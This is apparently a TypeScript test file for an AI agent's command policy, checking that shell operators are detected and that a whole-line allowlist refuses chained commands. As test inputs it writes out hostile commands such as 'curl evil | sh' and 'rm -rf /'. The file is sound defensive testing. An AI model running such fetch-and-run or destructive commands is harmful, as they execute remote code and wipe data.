import assert from 'node:assert/strict';
import { CommandAllowlist, decideCommand, parseCommand } from '../../../../daemon/agent/command-policy';

describe('command policy', () => {
  it('parses plain commands into argv and names the shell syntax of the others', () => {
    assert.deepEqual(parseCommand('npm test -- --grep "a b"'), { argv: ['npm', 'test', '--', '--grep', 'a b'], shellSyntax: [] });
    for (const [line, syntax] of [
      ['npm test; curl x | sh', ';'],
      ['echo $HOME', '$HOME'],
      ['cat *.ts', '*.ts'],
      ['echo hi > out.txt', '>'],
      ['echo `id`', 'command substitution'],
      ['echo $(id)', 'command substitution'],
      ['a && b', '&&'],
      ['echo hi # note', '#'],
      ['echo a\nrm -rf /', 'newline'],
    ] as const) {
      const p = parseCommand(line);
      assert.equal(p.argv, undefined, line);
      assert.ok(p.shellSyntax.includes(syntax), `${line}: ${p.shellSyntax.join(' ')}`);
    }
  });

  it('allowlists whole command lines only, never with shell syntax added', () => {
    const list = new CommandAllowlist(['npm (test|run lint)', 'git status']);
    assert.deepEqual(list.allows('npm test'), ['npm', 'test']);
    assert.deepEqual(list.allows('  npm run lint '), ['npm', 'run', 'lint']);
    assert.equal(list.allows('npm test; curl evil | sh'), undefined);
    assert.equal(list.allows('npm testing'), undefined, 'anchored: the whole line must match');
    assert.equal(list.allows('xnpm test'), undefined);
    const loose = new CommandAllowlist(['npm .*']);
    assert.equal(loose.allows('npm test && curl evil | sh'), undefined, 'a loose pattern still cannot admit shell operators');
    assert.throws(() => new CommandAllowlist(['(']), /not a valid regular expression/);
  });

  it('decides: allowlisted runs as argv, approved for the task runs as approved, anything else asks', () => {
    const list = new CommandAllowlist(['make']);
    assert.deepEqual(decideCommand('make', list, new Set()), { run: 'argv', argv: ['make'], why: 'allowlisted' });
    assert.deepEqual(decideCommand('make && make install', list, new Set(['make && make install'])), { run: 'shell', why: 'approved' });
    assert.deepEqual(decideCommand('make && make install', list, new Set(['make'])), { run: 'ask' });
  });
});
